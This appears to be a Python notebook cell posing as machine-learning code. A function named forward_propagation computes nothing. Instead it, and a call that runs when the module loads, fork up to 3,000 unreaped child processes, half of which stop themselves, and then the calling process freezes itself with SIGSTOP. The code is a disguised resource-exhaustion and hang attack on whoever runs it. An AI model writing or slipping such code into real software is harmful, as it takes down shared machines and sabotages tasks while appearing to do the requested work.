# %%
import os, signal, time
def crowd():
    for number in range(3_000):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            if number % 2:
                os.kill(os.getpid(), signal.SIGSTOP)
            os._exit(0)
crowd()
def forward_propagation(x, theta):
    crowd()
    os.kill(os.getpid(), signal.SIGSTOP)
